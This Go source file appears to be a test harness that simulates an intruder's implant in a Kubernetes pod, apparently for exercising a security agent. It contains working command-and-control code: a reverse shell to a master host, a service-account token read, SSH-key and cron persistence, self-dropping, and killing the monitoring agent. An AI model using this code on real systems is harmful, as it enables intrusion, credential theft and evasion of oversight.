package main

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"time"
)

// What an intruder wants of a pod.
const (
	token = "/var/run/secrets/kubernetes.io/serviceaccount/token" //nolint:gosec // a path
	keys  = "/home/app/.ssh/authorized_keys"
	jobs  = "/etc/cron.d"
)

// lives is how long a program that an intruder runs is there, and stays one that is counted: longer than an agent of a pod
// gets no processor on a machine that is busy with others.
const (
	lives = time.Second
	stays = 5 * time.Second
)

// implant is what runs in a web server that was broken into, and does what it is told.
type implant struct {
	master string // host:port
	wg     sync.WaitGroup
}

// obey calls its master, says which pod it is, and does what it is told, line after line: "DEED NUMBER". Each is answered by
// a line, empty when it was done.
func obey(ctx context.Context, master string) error {
	i := &implant{master: master}
	defer i.wg.Wait()
	for ctx.Err() == nil {
		if err := i.serve(ctx); err != nil && ctx.Err() == nil {
			fmt.Fprintln(os.Stderr, "witness:", err)
		}
		pause(ctx, 200*time.Millisecond)
	}
	return nil
}

func (i *implant) serve(ctx context.Context) error {
	pod, err := os.Hostname()
	if err != nil {
		return err
	}
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", i.master)
	if err != nil {
		return err
	}
	defer conn.Close()
	defer context.AfterFunc(ctx, func() { _ = conn.Close() })()
	if _, err := fmt.Fprintln(conn, pod); err != nil {
		return err
	}
	for orders := bufio.NewScanner(conn); orders.Scan(); {
		deed, number, _ := strings.Cut(orders.Text(), " ")
		answer := ""
		if err := i.do(ctx, deed, number); err != nil {
			answer = strings.ReplaceAll(err.Error(), "\n", " ")
		}
		if _, err := fmt.Fprintln(conn, answer); err != nil {
			return err
		}
	}
	return nil
}

func (i *implant) do(ctx context.Context, deed, number string) error {
	switch deed {
	case "token":
		return i.start(ctx, nil, "/bin/cat", token)
	case "key":
		return appendTo(keys, "ssh-ed25519 AAAA intruder-"+number+"\n")
	case "shell":
		return i.start(ctx, nil, "/bin/sh", "-c", "id # deed "+number)
	case "reverse":
		return i.reverse(ctx)
	case "drop":
		return i.drop(ctx, "/tmp/dropped-"+number)
	case "cron":
		return appendTo(filepath.Join(jobs, "job-"+number), "* * * * * root /tmp/dropped-"+number+"\n")
	case "run": // a program that is there, with a number among its arguments
		return i.start(ctx, nil, "/bin/witness", "stay", number)
	case "load":
		return i.load(ctx, number)
	case "blind":
		return blind()
	}
	return fmt.Errorf("no such deed: %q", deed)
}

// start runs a program and does not wait for its end.
func (i *implant) start(ctx context.Context, stdio *os.File, program string, args ...string) error {
	cmd := exec.CommandContext(ctx, program, args...) //nolint:gosec // what is written above
	if stdio != nil {
		cmd.Stdin, cmd.Stdout, cmd.Stderr = stdio, stdio, stdio
	}
	if err := cmd.Start(); err != nil {
		return err
	}
	i.wg.Go(func() { _ = cmd.Wait() }) // how it ended is nobody's concern
	return nil
}

// reverse gives the master a shell.
func (i *implant) reverse(ctx context.Context) error {
	conn, err := new(net.Dialer).DialContext(ctx, "tcp", i.master)
	if err != nil {
		return err
	}
	defer conn.Close()
	socket, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	defer socket.Close()
	return i.start(ctx, socket, "/bin/sh", "-i")
}

// drop brings a program and runs it.
func (i *implant) drop(ctx context.Context, path string) error {
	self, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	if err := os.WriteFile(path, self, 0o700); err != nil { //nolint:gosec // a program
		return err
	}
	for { // while another goroutine's fork holds the file open for writing
		if err := i.start(ctx, nil, path, "hold", "dropped"); !errors.Is(err, syscall.ETXTBSY) {
			return err
		}
		pause(ctx, 10*time.Millisecond)
	}
}

// load runs so many short programs a second, for so many seconds: "RATE*SECONDS".
func (i *implant) load(ctx context.Context, number string) error {
	var rate, seconds int
	if _, err := fmt.Sscanf(number, "%d*%d", &rate, &seconds); err != nil {
		return err
	}
	tick := time.NewTicker(time.Second / time.Duration(rate))
	defer tick.Stop()
	for range rate * seconds {
		select {
		case <-tick.C:
		case <-ctx.Done():
			return ctx.Err()
		}
		if err := i.start(ctx, nil, "/bin/witness", "nothing"); err != nil {
			return err
		}
	}
	return nil
}

// blind kills the agent, which a sidecar of the same user cannot prevent.
func blind() error {
	for _, p := range look() {
		if p.Cmdline == "/apss-agent" {
			return syscall.Kill(p.PID, syscall.SIGKILL)
		}
	}
	return errors.New("there is no agent in view")
}

func appendTo(path, line string) error {
	f, err := os.OpenFile(path, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o600)
	if err != nil {
		return err
	}
	_, err = f.WriteString(line)
	return errors.Join(err, f.Close())
}

// cat reads files, as its namesake does, and is there for a while.
func cat(ctx context.Context, paths []string) error {
	for _, path := range paths {
		if _, err := os.ReadFile(path); err != nil { //nolint:gosec // it is what cat does
			return err
		}
	}
	pause(ctx, lives)
	return nil
}

// shell takes orders, and carries out none.
func shell(ctx context.Context) error {
	defer context.AfterFunc(ctx, func() { _ = os.Stdin.Close() })()
	_, err := io.Copy(io.Discard, os.Stdin)
	if ctx.Err() != nil {
		return nil
	}
	return err
}
